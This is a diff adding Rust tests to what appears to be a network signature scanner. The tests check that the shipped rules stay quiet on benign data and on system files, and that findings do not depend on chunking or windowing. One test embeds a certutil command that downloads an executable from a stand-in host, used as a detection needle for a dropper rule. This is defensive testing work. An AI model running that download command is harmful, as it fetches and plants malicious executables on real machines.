@@ -163,3 +163,166 @@ fn a_large_public_set_loads_and_the_gate_changes_no_verdict() {
     eprintln!("{} samples, {matched} matches", samples.len());
     assert!(matched > 100, "the samples meet rules");
 }
+
+/// Shipped rules that match `content` as a body of either direction, as a file and as a value.
+fn shipped_matches(rules: &Arc<Signatures>, content: &[u8]) -> Vec<String> {
+    let budget = Budget::new(1 << 30);
+    let mut all = Vec::new();
+    for (place, direction) in [
+        (Place::Body, Direction::Request),
+        (Place::Body, Direction::Response),
+        (Place::Field, Direction::Request),
+    ] {
+        let facts = PartFacts {
+            place,
+            direction,
+            ..FACTS
+        };
+        let mut scan = SignatureScan::new(rules, &budget, &facts);
+        let mut out = Findings::default();
+        for window in content.chunks(16 * 1024) {
+            scan.push(window, &mut out);
+        }
+        if let Some(work) = scan.finish(&mut out) {
+            work.run(&Externals::default(), &mut out);
+        }
+        all.extend(ids(&out));
+    }
+    all.sort();
+    all.dedup();
+    all
+}
+
+fn shipped() -> Arc<Signatures> {
+    Arc::new(
+        Signatures::compile(vec![Bundle::embedded()], YaraLimits::default()).expect("compiles"),
+    )
+}
+
+#[test]
+fn shipped_rules_leave_the_benign_corpus_alone() {
+    let Some(path) = shared("corpus/benign.jsonl") else {
+        return;
+    };
+    let rules = shipped();
+    let mut alerts = Vec::new();
+    for (number, body) in bodies(&path, 1).iter().enumerate() {
+        for rule in shipped_matches(&rules, body) {
+            alerts.push(format!("record {number}: {rule}"));
+        }
+    }
+    assert!(alerts.is_empty(), "{alerts:#?}");
+}
+
+/// Bytes of the machine's own documents that one run looks at.
+const DOCUMENT_BYTES: u64 = 96 * 1024 * 1024;
+
+#[test]
+fn shipped_rules_leave_the_documents_of_the_machine_alone() {
+    let rules = shipped();
+    let (mut alerts, mut files, mut bytes) = (Vec::new(), 0u64, 0u64);
+    let mut open = vec![PathBuf::from("/usr/share")];
+    while let Some(folder) = open.pop() {
+        let Ok(entries) = std::fs::read_dir(&folder) else {
+            continue;
+        };
+        let mut paths: Vec<_> = entries.flatten().map(|entry| entry.path()).collect();
+        paths.sort();
+        for path in paths {
+            let Ok(meta) = std::fs::symlink_metadata(&path) else {
+                continue;
+            };
+            if meta.is_dir() {
+                open.push(path);
+            } else if meta.is_file() && meta.len() < 4 << 20 && bytes < document_bytes() {
+                let Ok(content) = std::fs::read(&path) else {
+                    continue;
+                };
+                files += 1;
+                bytes += meta.len();
+                for rule in shipped_matches(&rules, &content) {
+                    alerts.push(format!("{}: {rule}", path.display()));
+                }
+            }
+        }
+    }
+    eprintln!("{files} files, {} MiB", bytes >> 20);
+    assert!(alerts.is_empty(), "{alerts:#?}");
+}
+
+/// `SLUICE_TEST_DOCUMENT_MIB` widens the run.
+fn document_bytes() -> u64 {
+    std::env::var("SLUICE_TEST_DOCUMENT_MIB")
+        .ok()
+        .and_then(|text| text.parse::<u64>().ok())
+        .map_or(DOCUMENT_BYTES, |mib| mib << 20)
+}
+
+#[test]
+fn findings_do_not_depend_on_how_a_body_is_cut() {
+    let mut bundle = Bundle::embedded();
+    let examples = std::mem::take(&mut bundle.examples);
+    let rules =
+        Arc::new(Signatures::compile(vec![bundle], YaraLimits::default()).expect("compiles"));
+    for example in &examples {
+        let body = &example.bytes;
+        let wanted = gated(&rules, &[body]);
+        let step = body.len() / 24 + 1;
+        for cut in (0..body.len()).step_by(step) {
+            let (a, b) = body.split_at(cut);
+            assert_eq!(
+                gated(&rules, &[a, b]),
+                wanted,
+                "{} cut at {cut}",
+                example.source
+            );
+        }
+        let single: Vec<&[u8]> = body.chunks(1).collect();
+        assert_eq!(
+            gated(&rules, &single),
+            wanted,
+            "{} byte by byte",
+            example.source
+        );
+    }
+}
+
+#[test]
+fn a_body_over_the_limit_is_looked_at_in_blocks_and_that_is_recorded() {
+    let mut bundle = Bundle::embedded();
+    bundle.examples.clear();
+    let limits = YaraLimits {
+        whole_bytes: 1 << 20,
+        ..YaraLimits::default()
+    };
+    let rules = Arc::new(Signatures::compile(vec![bundle], limits).expect("compiles"));
+    let budget = Budget::new(1 << 30);
+    let needle = b"certutil -urlcache -split -f http://host.example/a.exe a.exe";
+    let run = |body: &[u8], size: usize| {
+        let mut scan = SignatureScan::new(&rules, &budget, &FACTS);
+        let mut out = Findings::default();
+        for window in body.chunks(size) {
+            scan.push(window, &mut out);
+        }
+        if let Some(work) = scan.finish(&mut out) {
+            work.run(&Externals::default(), &mut out);
+        }
+        let anomalies: Vec<_> = out.anomalies.iter().map(|at| at.anomaly.code()).collect();
+        (ids(&out), anomalies)
+    };
+    for place in [10, (1 << 20) - 20, (1 << 20) + 5, 3 << 20, (4 << 20) - 70] {
+        let mut body = vec![b'.'; 4 << 20];
+        body.splice(place..place + needle.len(), needle.iter().copied());
+        for size in [1000, 16 * 1024, 5 << 20] {
+            let (found, anomalies) = run(&body, size);
+            assert_eq!(
+                found,
+                ["dropper/system-tool-download"],
+                "at {place}, pieces of {size}"
+            );
+            assert_eq!(anomalies, ["windowed"]);
+        }
+    }
+    assert_eq!(run(&vec![b'.'; 1 << 20], 4096).1, Vec::<&str>::new());
+    assert_eq!(budget.used(), 0, "what was reserved was given back");
+}
